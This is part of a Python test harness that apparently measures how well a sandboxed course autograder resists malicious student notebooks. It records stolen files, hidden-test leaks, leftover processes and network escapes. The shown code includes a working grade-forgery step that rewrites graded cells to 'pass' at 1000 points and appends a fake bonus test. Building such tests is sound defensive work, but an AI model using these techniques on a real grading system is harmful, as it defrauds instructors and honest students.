def build(attack: Attack, ctx: Ctx):
    """The attack's notebook: the release, answers filled in, the attack's cells added."""
    nb = filled(ASSIGNMENT)
    answers = dict(WRONG) if attack.answers == "wrong" else solution_cells(ASSIGNMENT)
    answers.update(attack.override)
    for cell in nb.cells:
        gid = grade_id(cell)
        if gid in answers:
            src = answers[gid] + attack.suffix.get(gid, "")
            if attack.wrap:
                name = FUNCTIONS.get(gid)
                src += (f"\n{name} = _wrap({name})\n" if name else
                        f"\n{CLASSES[gid]}.forward = _wrap({CLASSES[gid]}.forward)\n")
            cell.source = src
        if "CTX" in cell.source and gid in answers:
            cell.source = ctx.prelude() + cell.source
    if attack.forge:
        for cell in nb.cells:
            meta = cell.get("metadata", {}).get("nbgrader", {})
            if meta.get("grade"):
                cell.source, meta["points"], meta["locked"] = "pass", 1000, False
        nb.cells.append(new_code_cell("pass", metadata={"nbgrader": {
            "grade": True, "grade_id": "bonus_tests", "locked": False, "points": 100,
            "schema_version": 3, "solution": False}}))
    setup = next(i for i, c in enumerate(nb.cells) if grade_id(c) == "setup")
    nb.cells[setup + 1:setup + 1] = [_cell(code, ctx) for code in attack.start]
    nb.cells += [_cell(code, ctx) for code in attack.end]
    if attack.bloat_mb:
        n = attack.bloat_mb * 2**20 // 3
        nb.metadata["bloat"] = RawList(n)
    return nb


class RawList(list):
    """Stands for ``[[], [], ...]`` (n empty lists) in a notebook written by :func:`write`."""

    def __init__(self, n: int):
        super().__init__()
        self.n = n


def write(nb, path: Path) -> Path:
    """The notebook as a file (``RawList`` metadata expanded as raw JSON)."""
    import nbformat

    bloat = nb.metadata.get("bloat")
    if not isinstance(bloat, RawList):
        return _write(nb, path)
    del nb.metadata["bloat"]
    text = nbformat.writes(nb)
    head, tail = text.rsplit('"metadata": {', 1)
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w") as f:
        f.write(head + '"metadata": {"bloat": [' + ",".join(["[]"] * bloat.n) + "], " + tail)
    return path


def write_victims(folder: Path, marker: str) -> dict[str, str]:
    """alice and bob (right answers, each with a secret note), carol (the untouched release)."""
    secrets = {}
    for v in ("alice", "bob"):
        nb = filled(ASSIGNMENT)
        secrets[v] = f"{v}'s secret note {marker}-{v}"
        cell = next(c for c in nb.cells if grade_id(c) == "basic_self_attention")
        cell.source = f"# {secrets[v]}\n" + cell.source
        write(nb, folder / f"{v}.ipynb")
    write(release_notebook(ASSIGNMENT), folder / "carol.ipynb")
    return secrets


def report(result, tag: str = "ATTACK-REPORT "):
    """The JSON an attack printed (``ATTACK-REPORT {...}``) in its result's cell outputs."""
    for cell in result.cells:
        for line in (cell.get("output") or "").splitlines():
            if line.startswith(tag):
                return json.loads(line[len(tag):])
    return None


def hidden_test_lines() -> set[str]:
    """Lines of the hidden tests long enough to be unmistakable."""
    from autograder.verdict import Source

    source = Source.load(SOLUTION)
    return {line.strip() for t in source.tasks.values() for line in t.hidden.splitlines()
            if len(line.strip()) > 25}


# --------------------------------------------------------------------------- listeners
class Listeners:
    """A TCP and a UDP port on 127.0.0.1, and a world-writable unix socket under /run:
    whatever reaches them from a sandbox is recorded."""

    def __init__(self, marker: str):
        self.received: list[str] = []
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.unix = None
        self.unix_path = ""
        if os.path.isdir("/run") and os.access("/run", os.W_OK):
            self.unix_path = f"/run/{marker}.sock"
            self.unix = socket.socket(socket.AF_UNIX)
            self.unix.bind(self.unix_path)
            os.chmod(self.unix_path, 0o777)
            self.unix.listen(16)
        self._stop = False
        self._threads = [threading.Thread(target=self._accept, args=(s, k), daemon=True)
                         for s, k in ((self.tcp, "tcp"), (self.unix, "unix")) if s is not None]
        self._threads.append(threading.Thread(target=self._udp, daemon=True))
        for t in self._threads:
            t.start()

    def _accept(self, sock, kind):
        sock.settimeout(0.2)
        while not self._stop:
            try:
                conn, _ = sock.accept()
            except (socket.timeout, OSError):
                continue
            self.received.append(kind)
            conn.close()

    def _udp(self):
        self.udp.settimeout(0.2)
        while not self._stop:
            try:
                self.udp.recvfrom(100)
                self.received.append("udp")
            except (socket.timeout, OSError):
                continue

    def close(self):
        self._stop = True
        for t in self._threads:
            t.join(timeout=2)
        for s in (self.tcp, self.udp, self.unix):
            if s is not None:
                s.close()
        if self.unix_path and os.path.exists(self.unix_path):
            os.remove(self.unix_path)


@contextlib.contextmanager
def cpus(n: int = 2):
    """Run what starts here (threads and processes inherit it) on ``n`` CPUs only, so that a
    fairness measurement means the same on a 2-core laptop and a 64-core server."""
    before = os.sched_getaffinity(0)
    os.sched_setaffinity(0, sorted(before)[:n])
    try:
        yield
    finally:
        os.sched_setaffinity(0, before)


def autogroup() -> bool:
    """Whether the kernel gives each session its own CPU share (what keeps a plain fork bomb,
    whose processes stay in the sandbox's session, from starving the others: see W6)."""
    try:
        return Path("/proc/sys/kernel/sched_autogroup_enabled").read_text().strip() == "1"
    except OSError:
        return False


# --------------------------------------------------------------------------- leftovers
def processes_with(marker: str) -> list[tuple[int, int, str]]:
    """(pid, parent pid, command line) of every process whose command line holds ``marker``."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
            ppid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
        if marker in cmd:
            found.append((int(pid), ppid, cmd))
    return found


def kill_leftovers(marker: str) -> list[int]:
    """Kill the processes an attack of this run left behind (by pid), and a runner that is their
    parent; returns the pids killed."""
    import signal

    killed = []
    for pid, ppid, _ in processes_with(marker):
        for p in (pid, ppid):
            try:
                cmd = Path(f"/proc/{p}/cmdline").read_bytes()
            except OSError:
                continue
            if marker.encode() in cmd or b"runner.py" in cmd:
                try:
                    os.kill(p, signal.SIGKILL)
                    killed.append(p)
                except ProcessLookupError:
                    pass
    return killed


def shm_exists(key: int) -> bool:
    text = Path("/proc/sysvipc/shm").read_text() if Path("/proc/sysvipc/shm").exists() else ""
    return any(line.split()[0] == str(key) for line in text.splitlines()[1:] if line.split())


def remove_shm(key: int) -> None:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    shmid = libc.shmget(key, 0, 0)
    if shmid >= 0:
        libc.shmctl(shmid, 0, None)   # IPC_RMID


def remove_planted(marker: str, paths) -> None:
    for p in paths:
        if marker in p and os.path.isfile(p):
            os.remove(p)


# --------------------------------------------------------------------------- grading
def grade_ours(attacks: list[Attack], subs: Path, work: Path, ctx: Ctx, limits: Limits,
               workers: int = 2) -> dict:
    from autograder import grade

    for a in attacks:
        write(build(a, ctx), subs / f"{a.sid}.ipynb")
    results = grade.grade(ASSIGNMENT, subs, work, workers=workers, limits=limits, progress=False)
    return {r.student: r for r in results}


def gradebook_scores(work: Path) -> dict[str, dict[str, float]]:
    """student -> {graded cell: score} as nbgrader's gradebook holds them now."""
    from nbgrader.api import Gradebook

    out = {}
    with Gradebook("sqlite:///" + str(work / "gradebook.db"), "tlcourse") as gb:
        for student in gb.students:
            try:
                nb = gb.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, student.id)
            except Exception:
                continue
            out[student.id] = {g.name: float(g.score or 0.0) for g in nb.grades}
    return out


def stock_ctx(work: Path, subs: Path, marker: str) -> Ctx:
    """Without a sandbox an attack must stay inside the throwaway folders: no course probing,
    no planting, only the run's own gradebook is written."""
    return Ctx(work=str(work), subs=str(subs), marker=marker, probe_course=False, plant=False)


def grade_stock(attacks: list[Attack], folder: Path, marker: str, victims: bool = True):
    """Stock nbgrader on ``attacks`` (stock-safe ones only), in ``folder``. Returns
    ({student: stock Result}, {student: gradebook scores after the whole batch})."""
    from testkit import stock

    subs, work = folder / "subs", folder / "work"
    subs.mkdir(parents=True, exist_ok=True)
    ctx = stock_ctx(work, subs, marker)
    if victims:
        write(release_notebook(ASSIGNMENT), subs / "carol.ipynb")
    for a in attacks:
        assert a.stock, f"{a.sid} is not safe to run without a sandbox"
        write(build(a, ctx), subs / f"{a.sid}.ipynb")
    results = {r.student: r for r in stock.grade(ASSIGNMENT, subs, work, progress=False)}
    return results, gradebook_scores(work)


# --------------------------------------------------------------------------- the table
def _why(r) -> str:
    if r.error:
        return r.error
    failed = sum(1 for t in r.tasks.values() if t.visible)
    msgs = [t.message for t in r.tasks.values() if t.message]
    why = msgs[0] if msgs else ""
    return why + (f" ({failed} visible checks failed)" if failed else "")


def _loot(text: str, hidden: set[str]) -> tuple[int, int]:
    """(files the attack read, hidden-test lines) in what came back to the student."""
    return text.count("STOLEN /"), sum(1 for line in hidden if line in text)


def _clip(text: str, n: int) -> str:
    text = text.replace("|", "\\|").replace("\n", " ")
    return text if len(text) <= n else text[:n - 1] + "…"


def main(argv=None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--no-stock", action="store_true", help="skip stock nbgrader")
    args = parser.parse_args(argv)
    from autograder.sandbox import isolation_available

    ok, why = isolation_available()
    if not ok:
        raise SystemExit(f"the course's grader cannot sandbox here: {why}")
    attacks = catalogue()
    marker = new_marker()
    tmp = Path(tempfile.mkdtemp(prefix="tlthreats-"))
    listeners = Listeners(marker)
    ours, seconds, book, planted, leaks = {}, {}, {}, [], {}
    stock_res, stock_book = {}, {}
    try:
        subs, work = tmp / "subs", tmp / "work"
        ctx = Ctx(work=str(work), subs=str(subs), marker=marker, port=listeners.port,
                  unix_socket=listeners.unix_path)
        write_victims(subs, marker)
        t0 = time.perf_counter()
        ours.update(grade_ours([], subs, work, ctx, LIMITS["main"]))
        ours.update(grade_ours([a for a in attacks if a.batch == "main"], subs, work, ctx,
                               LIMITS["main"]))
        seconds["main"] = time.perf_counter() - t0
        book = gradebook_scores(work)
        time.sleep(6)
        survivors = processes_with(marker)
        shm_left = shm_exists(ctx.ipc_key)
        for batch in ("hog", "lock", "red", "slow"):
            t0 = time.perf_counter()
            with cpus(2) if batch == "hog" else contextlib.nullcontext():
                ours.update(grade_ours([a for a in attacks if a.batch == batch],
                                       tmp / f"{batch}-subs", tmp / f"{batch}-work", ctx,
                                       LIMITS[batch]))
            seconds[batch] = time.perf_counter() - t0
        if not args.no_stock:
            t0 = time.perf_counter()
            stock_res, stock_book = grade_stock([a for a in attacks if a.stock], tmp / "stock",
                                                marker)
            seconds["stock"] = time.perf_counter() - t0
        planted = (report(ours["t01-gradebook"]) or {}).get("planted", [])
        hidden = hidden_test_lines()
        leaks = {"course grader": _loot(json.dumps(ours["t06-read-secrets"].to_json()) + "\n".join(
            c["output"] for c in ours["t06-read-secrets"].cells) + (
            work / "feedback" / "t06-read-secrets" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text(),
            hidden)}
        if stock_res and stock_res["t06-read-secrets"].feedback:
            leaks["stock nbgrader"] = _loot(Path(stock_res["t06-read-secrets"].feedback).read_text(),
                                            hidden)
    finally:
        listeners.close()
        kill_leftovers(marker)
        remove_shm(zlib.crc32(marker.encode()) & 0x7FFFFFFF)

    print("Measured with " + ", ".join(f"{b}: {l.wall_s:g} s wall, {l.memory_mb} MB"
                                         for b, l in LIMITS.items()) + "; "
          + ", ".join(f"{k} batch {v:.0f} s" for k, v in seconds.items()) + "\n")
    print("| attack | answers | stock nbgrader | course grader | course grader's verdict (first "
          "message) |")
    print("|---|---|---|---|---|")
    for a in attacks:
        r = ours[a.sid]
        s = stock_res.get(a.sid)
        st = "not run" if s is None else (f"{s.total:g}" + (f" ({_clip(s.error, 50)})" if s.error else ""))
        print(f"| `{a.sid}`: {a.what} | {a.answers} | {st} | {r.total:g} in {r.seconds:g} s | "
              f"{_clip(_why(r), 100)} |")
    print(f"\nMaximum 10 points. Victims graded before the main batch: " +
          ", ".join(f"{v} {ours[v].total:g} (gradebook after: {sum(book.get(v, {}).values()):g})"
                    for v in VICTIMS))
    if stock_res:
        print("Stock nbgrader, same gradebook attack in its own throwaway folder: gradebook after "
              "the batch: " + ", ".join(f"{sid} {stock_res[sid].total:g} -> {sum(sc.values()):g}"
                                        for sid, sc in sorted(stock_book.items())
                                        if sid in stock_res))
    for sid in ("t01-gradebook", "t09b-memory", "t09c-disk", "t09d-network", "t09f-memory-forked"):
        print(f"{sid} reported: {_clip(json.dumps(report(ours[sid])), 700)}")
    for who, (files, lines) in leaks.items():
        print(f"t06-read-secrets under {who}: read {files} files; {lines} lines of the hidden tests "
              "in what the student gets back (result, feedback)")
    print(f"t01-gradebook planted {len(planted)} files; on the host afterwards: "
          f"{[p for p in planted if os.path.exists(p)]}")
    print(f"processes left 6 s after grading: {[c[-60:] for _, _, c in survivors]}")
    print(f"System V shared memory left: {shm_left}")
    print(f"connections that reached the grader's machine: {listeners.received}")
    shutil.rmtree(tmp, ignore_errors=True)


if __name__ == "__main__":
    main()
